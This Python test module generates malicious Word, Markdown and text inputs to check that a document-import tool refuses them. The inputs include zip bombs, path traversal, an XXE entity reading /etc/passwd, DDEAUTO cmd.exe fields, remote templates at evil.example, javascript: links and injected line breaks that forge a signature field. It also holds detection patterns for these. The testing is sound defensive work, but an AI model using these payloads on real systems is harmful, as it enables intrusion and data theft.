"""Word documents, Markdown and plain texts: at ``import``, at ``check``, and as a template at ``--reference``."""

import io
import re
import zipfile
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Final

from tests.attacks.frame import Attack, Expected, Run
from tests.attacks.material import (
    ESCAPES,
    TITLE,
    attack,
    attack_by,
    lay,
    paragraph,
    part,
    relation,
    relations,
    swelling,
    swollen,
    with_header,
    word,
    zipped,
)

BOTH: Final = ("import", "--reference")
ALL: Final = ("import", "--reference", "check", "import_document()")
IMPORT: Final = ("import",)
REFERENCE: Final = ("--reference",)
READ, REFUSED = Expected.READ, Expected.REFUSED


def attacks() -> Iterator[Attack]:
    """Yield all attacks on documents."""
    yield from _archives()
    yield from _nested()
    yield from _addresses()
    yield from _fields()
    yield from _numbers()
    yield from _carried_records()
    yield from _notes()
    yield from _texts()


def _archives() -> Iterator[Attack]:
    usual = word()
    main = "word/document.xml"
    rest = {name: data for name, data in usual.items() if name != main}
    start = part("document", "<w:body>").removesuffix("</w:document>").encode()
    bomb = swelling(paragraph("甲").encode() * 1_000, 20_000, (start, b"</w:body></w:document>"))
    for doors, told, data in (
        (ALL, "a main part of gigabytes", partial(swollen, rest, main, bomb)),
        (BOTH, "styles of gigabytes", partial(swollen, usual, "word/more.xml", bomb)),
        (BOTH, "5,000 parts", lambda: zipped({**usual, **{f"e{n}.xml": "<a/>" for n in range(5_000)}})),
        (IMPORT, "a part that leaves the archive", zipped({**usual, "../evil.txt": "x"})),
        (IMPORT, "an absolute part", zipped({**usual, "/etc/evil": "x"})),
        (BOTH, "cut off", zipped(usual)[:-100]),
        (BOTH, "an empty file", b""),
        (BOTH, "an old .doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000),
        (
            BOTH,
            "entities",
            zipped({**usual, main: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + str(usual[main])}),
        ),
        (BOTH, "a main part of another root", zipped({**usual, main: "<x/>"})),
        (
            BOTH,
            "a main part that is its own relationship",
            zipped({**usual, "_rels/.rels": relations(relation("a", "officeDocument", "_rels/.rels"))}),
        ),
        (BOTH, "a workbook", zipped({**usual, "[Content_Types].xml": "<Types/>"})),
        (BOTH, "a macro", zipped({**usual, "word/vbaProject.bin": b"x"})),
        (
            BOTH,
            "a macro by its type",
            zipped(
                word(
                    types='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
                )
            ),
        ),
        (
            BOTH,
            "an OLE object",
            zipped(word() | {"word/embeddings/oleObject1.bin": b"x"}),
        ),
    ):
        refused = told not in {"a workbook"}
        yield from attack(doors, told, "a.docx", data, REFUSED if refused else Expected.EITHER)  # fmt: skip
    for name in usual:
        yield from attack(
            BOTH, f"without {name}", "a.docx", zipped({each: data for each, data in usual.items() if each != name})
        )
        yield from attack(BOTH, f"a broken {name}", "a.docx", zipped({**usual, name: "<w:p"}))


def _nested() -> Iterator[Attack]:
    """Things within things."""

    def boxed(deep: int, inside: str) -> str:
        box = "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>%s</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
        table = f"<w:tbl><w:tr><w:tc>{box}</w:tc></w:tr></w:tbl>"
        for _ in range(deep):
            inside = table % inside
        return inside

    def alternate(deep: int, inside: str) -> str:
        for _ in range(deep):
            inside = (
                '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><wps:txbx><w:txbxContent>'
                f"{inside}</w:txbxContent></wps:txbx></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent>"
                f"{inside if _ < 3 else ''}</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
            )
        return inside

    def tables(deep: int, inside: str) -> str:
        return "<w:tbl><w:tr><w:tc>" * deep + inside + f"{paragraph('格')}</w:tc></w:tr></w:tbl>" * deep

    for deep in (2, 12, 20, 25):
        yield from attack(
            ALL if deep == 20 else IMPORT,
            f"a text box within a cell within a text box, {deep} deep",
            "a.docx",
            partial(_of_body, boxed(deep, paragraph())),
        )
    for deep in (5, 25):
        yield from attack(
            IMPORT, f"alternate contents, {deep} deep", "a.docx", partial(_of_body, alternate(deep, paragraph()))
        )
    for deep in (30, 80):
        yield from attack(BOTH, f"tables {deep} deep", "a.docx", partial(_of_body, tables(deep, paragraph())))
    for tag in ("sdt><w:sdtContent", "ins", "smartTag", "hyperlink", "del", "fldSimple"):
        first, *more = tag.split("><w:")
        opened = f"<w:{first}>" + "".join(f"<w:{each}>" for each in more)
        closed = "".join(f"</w:{each}>" for each in more) + f"</w:{first}>"
        yield from attack(
            IMPORT,
            f"{first} 200 deep",
            "a.docx",
            partial(_of_body, f"<w:p>{opened * 100}<w:r><w:t>甲</w:t></w:r>{closed * 100}</w:p>"),
        )
    yield from attack(BOTH, "elements 100,000 deep", "a.docx", lambda: _of_body("<w:x>" * 100_000 + "</w:x>" * 100_000))
    yield from attack(IMPORT, "30,000 paragraphs", "a.docx", lambda: _of_body(paragraph("一、甲") * 30_000))
    yield from attack(
        IMPORT, "30,000 runs", "a.docx", lambda: _of_body("<w:p>" + "<w:r><w:t>甲</w:t></w:r>" * 30_000 + "</w:p>")
    )
    yield from attack(
        IMPORT,
        "20,000 rows",
        "a.docx",
        lambda: _of_body("<w:tbl>" + f"<w:tr>{f'<w:tc>{paragraph()}</w:tc>' * 3}</w:tr>" * 20_000 + "</w:tbl>"),
    )
    for attribute in (
        '<w:gridSpan w:val="1000000000"/>',
        '<w:gridSpan w:val="-1"/>',
        '<w:vMerge w:val="continue"/>',
        '<w:gridSpan w:val="x"/>',
    ):
        cell = f"<w:tc><w:tcPr>{attribute}</w:tcPr>{paragraph()}</w:tc>"
        yield from attack(
            IMPORT,
            f"cells of {attribute}",
            "a.docx",
            partial(_of_body, f"<w:tbl><w:tr>{cell * 9}</w:tr><w:tr>{cell * 9}</w:tr></w:tbl>"),
        )
    yield from attack(
        IMPORT,
        "a grid of 100,000 columns",
        "a.docx",
        lambda: _of_body(
            "<w:tbl><w:tblGrid>"
            + '<w:gridCol w:w="1"/>' * 100_000
            + f"</w:tblGrid><w:tr><w:tc>{paragraph()}</w:tc></w:tr></w:tbl>"
        ),
    )


def _of_body(body: str) -> bytes:
    return zipped(word(body))


def _reaches_out(run: Run) -> str | None:
    """Say which address a finished document would open by itself, or which program its fields would run."""
    for path in run.out.rglob("*.docx"):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                text = archive.read(name).decode("utf-8", "replace")
                if name.endswith(".rels"):
                    for each in re.findall(r"<Relationship [^>]*External[^>]*>", text):
                        if "/hyperlink" not in each or not re.search(r'Target="(?:https?://|mailto:)', each):
                            return f"the document keeps {each[:160]!r}"
                elif name.endswith(".xml") and (
                    found := re.search(r"MACROBUTTON|DDE|INCLUDE|javascript:|altChunk", text)
                ):
                    return f"the document keeps {found[0]}"
    return None


def _addresses() -> Iterator[Attack]:
    """What an office program opens unasked."""
    picture = (
        '<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="x"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )
    for target in (
        "http://evil.example/p.png",
        "http://evil.example/p.png?x=.xlsx",
        "\\\\evil.example\\p.png",
        "file:///etc/p.png",
        "http://evil.example/p.XLSX",
        "//evil.example/p.xlsx",
    ):
        address = relation("x", "image", target, external=True)
        yield from attack(
            REFERENCE, f"a picture at {target} in a header", "a.docx", zipped(with_header(picture, address)), REFUSED
        )
        yield from attack(
            IMPORT, f"a picture at {target}", "a.docx", zipped(word(f"<w:p>{picture}</w:p>", address)), REFUSED
        )
    for kind in (
        "attachedTemplate",
        "aFChunk",
        "subDocument",
        "frame",
        "oleObject",
        "package",
        "control",
        "externalLink",
        "image",
        "settings",
        "header",
        "customXml",
    ):
        for target in (
            ("http://evil.example/t.xlsx", "http://evil.example/t.dotm")
            if kind in ("attachedTemplate", "aFChunk")
            else ("http://evil.example/t.xlsx",)
        ):
            yield from attack(
                BOTH,
                f"{kind} at {target}",
                "a.docx",
                zipped(word(paragraph(), relation("x", kind, target, external=True))),
                REFUSED,
            )
    for name in (
        "word/_rels/settings.xml.rels",
        "customXml/_rels/item1.xml.rels",
        "_rels/.rels",
        "docProps/_rels/core.xml.rels",
        "WORD/_rels/document.xml.RELS",
    ):
        hidden = relations(
            *((relation("a", "officeDocument", "word/document.xml"),) if name == "_rels/.rels" else ()),
            relation("x", "attachedTemplate", "http://evil.example/t.dotm", external=True),
        )
        yield from attack(
            BOTH,
            f"an attached template, in {name}",
            "a.docx",
            zipped({**word(), name: hidden}),
            REFUSED if not name.startswith("WORD") else Expected.EITHER,
            *(() if not name.startswith("WORD") else (_reaches_out,)),
        )
    yield from attack(
        BOTH,
        "altChunk of a part",
        "a.docx",
        zipped({**word('<w:altChunk r:id="x"/>', relation("x", "aFChunk", "a.html")), "word/a.html": "<script>"}),
        REFUSED,
    )
    yield from attack(
        BOTH,
        "altChunk named .xlsx",
        "a.docx",
        zipped({**word('<w:altChunk r:id="x"/>', relation("x", "aFChunk", "a.xlsx")), "word/a.xlsx": "<script>"}),
        REFUSED,
    )
    for mode in ("external", "EXTERNAL", " External", "Externa&#108;"):
        address = f'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/p.png" TargetMode="{mode}"/>'
        yield from attack(
            REFERENCE,
            f"a picture elsewhere, TargetMode={mode!r}",
            "a.docx",
            zipped(with_header(picture, address)),
            Expected.EITHER,
            _reaches_out,
        )
    for target in (
        "file:///c:/a.docx",
        "ftp://example.org/a",
        "tel:12345",
        "other.docx",
        "http:example.org",
        "#here",
        "https://example.org/",
        "mailto:a@example.org",
        "HTTP://EXAMPLE.ORG",
        "sms:1",
        "news:x",
    ):
        link = '<w:p><w:hyperlink r:id="x"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'
        yield from attack(
            IMPORT,
            f"an ordinary link to {target}",
            "a.docx",
            zipped(word(link, relation("x", "hyperlink", target, external=True))),
            READ,
        )
    for target in (
        "javascript:alert(1)",
        "file:///c:/a.exe",
        "vbscript:x",
        "data:text/html,x",
        "ms-word:ofe|u|http://evil.example",
        "\\\\evil.example\\share",
        "https://example.org/",
    ):
        link = '<w:hyperlink r:id="x"><w:r><w:t>链接</w:t></w:r></w:hyperlink>'
        yield from attack(
            REFERENCE,
            f"a link to {target} in a header",
            "a.docx",
            zipped(with_header(link, relation("x", "hyperlink", target, external=True))),
            Expected.EITHER,
            _reaches_out,
        )


def _fields() -> Iterator[Attack]:
    """Fields that run programs or fetch what stands elsewhere."""
    for code in (
        "MACROBUTTON AutoOpen 点我", "DDEAUTO c:\\\\windows\\\\cmd.exe /k", "DDE excel x", "INCLUDEPICTURE http://evil.example/p.png",
        "INCLUDETEXT file:///etc/passwd", "LINK Excel.Sheet x", "IMPORT x", "DATABASE \\d x", "HYPERLINK javascript:x",
        "HYPERLINK file:///c:/a.exe", "AUTOTEXT x", "GOTOBUTTON x", "PRINT x", "INCLUDE x", "macrobutton x", "  DdE  x",
        "QUOTE 68 68 69", "IF 1=1 { DDE x }", "RD x", "EMBED Package", "FORMTEXT", "ASK x y", "FILLIN x",
    ):  # fmt: skip
        simple = f'<w:fldSimple w:instr="{code}"><w:r><w:t>域</w:t></w:r></w:fldSimple>'
        cut = len(code) // 2
        parts = "".join(
            f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in (code[:cut], code[cut:])
        )
        spread = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{parts}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>域</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        for told, field in (("whole", simple), ("in two", spread)):
            yield from attack(
                REFERENCE,
                f"the field {code!r} {told} in a header",
                "a.docx",
                zipped(with_header(field)),
                Expected.EITHER,
                _reaches_out,
            )
        yield from attack(IMPORT, f"the field {code!r}", "a.docx", zipped(word(f"<w:p>{simple}{spread}</w:p>")))


def _numbers() -> Iterator[Attack]:
    """Lists, styles and pages with numbers that are none."""
    for told, level in (
        (
            "a start of 10^18",
            '<w:start w:val="1000000000000000000"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/>',
        ),
        ("a start of -1", '<w:start w:val="-1"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1."/>'),
        (
            "Roman numbers of a million",
            '<w:start w:val="1000000"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1."/>',
        ),
        ("letters of a million", '<w:start w:val="10000000"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1."/>'),
        (
            "a pattern of 100,000 numbers",
            f'<w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="{"%1" * 100_000}"/>',
        ),
        ("numbers that are none", '<w:start w:val="x"/><w:numFmt w:val="y"/><w:lvlText w:val="%%9%0%"/>'),
    ):
        numbering = part(
            "numbering",
            f'<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">{level}</w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
        )
        body = (
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>'
            * 20
        )
        yield from attack(
            BOTH,
            f"a list with {told}",
            "a.docx",
            zipped(word(body, relation("n", "numbering", "numbering.xml")) | {"word/numbering.xml": numbering}),
        )
    for level in ("999999", "-1", "x", "1e9"):
        body = f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{level}"/></w:numPr></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>'
        yield from attack(IMPORT, f"a list of the level {level}", "a.docx", zipped(word(body)))
    ring = part(
        "styles",
        "".join(
            f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="heading {n}"/><w:basedOn w:val="s{(n + 1) % 9}"/><w:link w:val="s{(n + 2) % 9}"/></w:style>'
            for n in range(9)
        ),
    )
    yield from attack(
        BOTH, "styles based on each other", "a.docx", zipped(word(paragraph("甲", "s1")) | {"word/styles.xml": ring})
    )
    chain = part(
        "styles",
        "".join(
            f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="n{n}"/><w:basedOn w:val="s{n + 1}"/></w:style>'
            for n in range(20_000)
        ),
    )
    yield from attack(
        BOTH,
        "20,000 styles, each based on the next",
        "a.docx",
        lambda: zipped(word(paragraph("甲", "s0")) | {"word/styles.xml": chain}),
    )
    for size in (
        'w:w="0" w:h="0"',
        'w:w="-1" w:h="-1"',
        'w:w="99999999999999999999" w:h="1"',
        'w:w="x" w:h="y"',
        'w:w="1" w:h="1"',
    ):
        for margin in (
            'w:left="99999" w:right="99999" w:top="99999" w:bottom="99999"',
            'w:left="-99999" w:right="x" w:top="" w:bottom="1e9"',
        ):
            section = f"<w:body>{TITLE}<w:sectPr><w:pgSz {size}/><w:pgMar {margin}/></w:sectPr></w:body>"
            yield from attack(
                REFERENCE,
                f"a page of {size} and {margin[:14]}",
                "a.docx",
                zipped(word() | {"word/document.xml": part("document", section)}),
            )


def _carried_records() -> Iterator[Attack]:
    """Word documents of ours, whose record somebody has changed."""
    for told, text in (
        ("not JSON", "{"), ("brackets", "[" * 100_000), ("null", "null"), ("nothing", ""), ("noise", "\u2028" * 9_000),
        ("a number of a million digits", '{"period": ' + "9" * 1_000_000 + "}"),
        ("another kind", '{"community": {"name": "甲"}, "period": 2025, "sections": [{"kind": "::set-output"}]}'),
        ("20 MB", '{"opening": "' + "甲" * 7_000_000 + '"}'),
        ("photographs out of the folder", '{"community": {"name": "甲"}, "period": 2025, "sections": [{"kind": "narrative", "heading": "其他", "paragraphs": ["甲。"], "photos": [{"file": "../home/canary.txt"}]}]}'),
    ):  # fmt: skip
        data = partial(_with_record, text)
        yield from attack(("import", "check", "batch", "rollup", "load()"), f"carries {told}", "a.docx", data)


def _with_record(text: str) -> bytes:
    import kepu_docs

    made = kepu_docs.render(
        kepu_docs.load({"community": {"name": "试验社区"}, "period": 2025, "opening": "甲。"}), "docx"
    )
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "customXml/item1.xml":
                content = re.sub(
                    rb">[^<]*</record>", lambda _: b">" + text.replace("<", "&lt;").encode() + b"</record>", content
                )
            new.writestr(name, content)
    return stream.getvalue()


FORGED: Final = "signed_by: 冒名"
BREAKS: Final = {
    "line feed": "\n",
    "carriage return": "\r",
    "NEL": "\x85",
    "LS": "\u2028",
    "PS": "\u2029",
    "form feed": "\f",
    "vertical tab": "\v",
    "FS": "\x1c",
}


def _forges(run: Run) -> str | None:
    """Say whether a record says what no document said, but its comments were to hold."""
    import yaml

    for path in run.out.rglob("*.yaml"):
        if "好" in path.name or path.stem == "good":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"[\x85\u2028\u2029\x0b\x0c\x1c-\x1e]", text):
            return "the record keeps a line break of another kind"
        data = yaml.safe_load(text)
        if isinstance(data, dict) and "冒名" in str(data.get("signed_by", "")):
            return "the document signs the record"
    return None


def _notes() -> Iterator[Attack]:
    """What stands in a document's notes, links and names, and would stand in the record."""
    for told, character in BREAKS.items():
        escape = "".join(f"%{byte:02X}" for byte in character.encode())
        for shown, link in (
            ("a link", f"[a](http://x/{escape}signed_by:%20冒名{escape}%23)"),
            ("an image", f"![a](http://x/{escape}signed_by:%20冒名{escape}%23)"),
            ("an entity", f"[a](http://x/&#{ord(character)};signed_by:&#32;冒名)"),
            ("a title", f'[a](http://x/ "x{escape}&#{ord(character)};signed_by: 冒名")'),
        ):
            yield from attack(
                IMPORT,
                f"{told} in {shown}",
                "a.md",
                f"# 试验社区2025年科普工作总结\n\n正文{link}。\n",
                Expected.EITHER,
                _forges,
            )
        entity = f"&#{ord(character)};" if character in "\n\r\x85\u2028\u2029" else " "
        target = f"http://x/{entity}{FORGED}{entity}#"
        link = '<w:p><w:hyperlink r:id="x"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>'
        yield from attack(
            IMPORT,
            f"{told} in the address of a link",
            "a.docx",
            zipped(word(link, relation("x", "hyperlink", target, external=True))),
            Expected.EITHER,
            _forges,
        )
        forged = f"甲{entity}{FORGED}{entity}#"
        for shown, inside in (
            (
                "deleted text",
                f"<w:p><w:del><w:r><w:delText>{forged}</w:delText></w:r></w:del><w:r><w:t>甲</w:t></w:r></w:p>",
            ),
            ("a heading", paragraph(f"一、{forged}", "1")),
            ("text", paragraph(forged)),
            ("a cell", f"<w:tbl><w:tr><w:tc>{paragraph(forged)}</w:tc></w:tr></w:tbl>"),
        ):
            yield from attack(IMPORT, f"{told} in {shown}", "a.docx", zipped(word(inside)), Expected.EITHER, _forges)
        header = with_header(f"<w:r><w:t>{forged}</w:t></w:r>")
        yield from attack(IMPORT, f"{told} in a header", "a.docx", zipped(header), Expected.EITHER, _forges)
        name = f"a{character}signed_by: 冒名{character}#.md"
        yield from attack_by(
            IMPORT, f"{told} in the file's name", name, partial(_named, name), Expected.EITHER, _forges
        )
    comment = (
        '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>甲</w:t></w:r><w:r><w:commentReference w:id="0"/></w:r></w:p>'
    )
    comments = part(
        "comments", f'<w:comment w:id="0" w:author="x&#10;{FORGED}">{paragraph(f"甲&#10;{FORGED}")}</w:comment>'
    )
    yield from attack(
        IMPORT,
        "a comment",
        "a.docx",
        zipped(word(comment, relation("c", "comments", "comments.xml")) | {"word/comments.xml": comments}),
        Expected.EITHER,
        _forges,
    )
    footnotes = part("footnotes", f'<w:footnote w:id="2">{paragraph(f"甲&#10;{FORGED}")}</w:footnote>')
    yield from attack(
        IMPORT,
        "a footnote",
        "a.docx",
        zipped(
            word('<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', relation("f", "footnotes", "footnotes.xml"))
            | {"word/footnotes.xml": footnotes}
        ),
        Expected.EITHER,
        _forges,
    )


def _named(name: str, folder: Path) -> None:
    lay(folder, name, "# 试验社区2025年科普工作总结\n\n正文。[a](javascript:x)\n")


def _texts() -> Iterator[Attack]:
    """Plain texts and Markdown."""
    table = "-----\na  b\n-----\n1  2\n-----\n某办\n某办〔2025〕1号\n"
    for told, text in (
        ("a table before a letterhead", table),
        ("rules alone", "-----\n" * 5_000),
        ("a table of blanks", "-----\n  \n-----\n  \n-----\n"),
        ("tables of one line", "-----\na\n" * 3_000),
        ("a line of 3 MB", "甲" * 1_000_000),
        ("100,000 lines", "一、甲\n" * 100_000),
        ("spaces without end", "甲" + " " * 500_000 + "乙\n"),
        ("tabs without end", "\t" * 500_000 + "甲\n"),
        ("numbers without end", "1." * 100_000 + "\n"),
        ("brackets without end", "（" * 100_000 + "\n"),
        ("quotation marks without end", "“" * 100_000 + "\n"),
        ("signatures without end", "某某社区\n2025年12月20日\n" * 5_000),
        ("days without end", "2025年1月1日" * 20_000 + "\n"),
        ("document numbers without end", "某办〔2025〕1号\n" * 10_000),
        ("attachments without end", "附件：\n" + "".join(f"{n}.甲\n" for n in range(20_000))),
        ("page numbers without end", "— 1 —\n" * 20_000),
        ("a contents without end", "目录\n" + "甲……………1\n" * 20_000),
        ("full-width rules", "—" * 100_000 + "\n甲\n" + "─" * 100_000),
        ("noise", "".join(chr(0x4E00 + n * 7919 % 20_000) for n in range(100_000))),
    ):
        yield from attack(("import", "check") if told == "a table before a letterhead" else IMPORT, told, "a.txt", text)
    for told, text in (
        ("quotes 10,000 deep", ">" * 10_000 + "甲\n"),
        ("lists 2,000 deep", "".join("  " * n + "- 甲\n" for n in range(2_000))),
        ("brackets without end", "[" * 100_000),
        ("emphasis without end", "*a **a " * 30_000),
        ("back-ticks without end", "".join("`" * n + "a" for n in range(1, 600))),
        ("links within links", "[a](" * 50_000),
        ("a table of 10,000 columns", "|" + "a|" * 10_000 + "\n|" + "-|" * 10_000 + "\n|" + "b|" * 10_000 + "\n"),
        ("references by the thousand", "".join(f"[a{n}]: <http://x{n}>\n" for n in range(20_000)) + "[a1]"),
        ("HTML", "<script>alert(1)</script>\n\n<img src=x onerror=y>\n" * 500),
        ("entities without end", "&" * 200_000),
        ("front matter", "---\nsigned_by: 冒名\n---\n# 甲\n\n乙\n"),
        ("half-closed HTML", "<a " * 50_000),
        ("a setext heading without end", ("甲\n" * 5_000) + "===\n"),
    ):
        yield from attack(IMPORT, told, "a.md", text)
    for told, text in ESCAPES.items():
        yield from attack(IMPORT, f"a text with {told}", "a.txt", f"试验社区2025年科普工作总结\n一、甲{text}\n")
        yield from attack(IMPORT, f"a title with {told}", "a.md", f"# 试验社区{text}2025年\n\n## {text}\n\n甲\n")
